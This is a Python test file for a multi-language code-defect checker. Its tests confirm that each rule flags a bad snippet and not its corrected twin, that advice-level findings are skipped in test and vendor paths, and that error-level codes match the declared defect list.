def test_a_defect_is_told_and_its_twin_is_not(
    language: str, bad: str, good: str, code: str
) -> None:
    assert code in [each.code for each in found(language, bad)]
    assert code not in [each.code for each in found(language, good)]


def test_every_rule_on_trees_has_a_case_and_every_checked_language_some_rules() -> None:
    told = {(language, code) for language, _, _, code in CASES}
    assert RULED == CHECKED
    for name in RULED:
        assert {rule.code for rule in tree_rules(name)} <= {code for _, code in told}
    for language in CHECKED - {"TSX"}:
        assert len({code for own, code in told if own == language}) >= 2, language


def test_advice_is_left_out_of_tests_and_of_others_code() -> None:
    text = b"try { g() } catch (e) {}\nif (a = 1) {}\n"
    assert [each.code for each in defects("JavaScript", "lib/a.js", text)] == [
        "empty-catch",
        "assigned-condition",
    ]
    for path in ("test/a.js", "vendor/a.js", "src/a.spec.js"):
        assert [each.code for each in defects("JavaScript", path, text)] == ["assigned-condition"]


def test_whatever_blocks_is_known_to_those_who_excuse_tests_and_examples() -> None:
    grave = {
        each.code
        for name, bad, _, _ in CASES
        for each in found(name, bad)
        if each.weight == "ERROR"
    }
    every = (rule for name in RULED for rule in tree_rules(name))
    grave |= {rule.code for rule in every if rule.weight == "ERROR"}
    assert grave | {"promise-as-answer"} == set(DEFECTS.split("|"))  # that one needs files beside
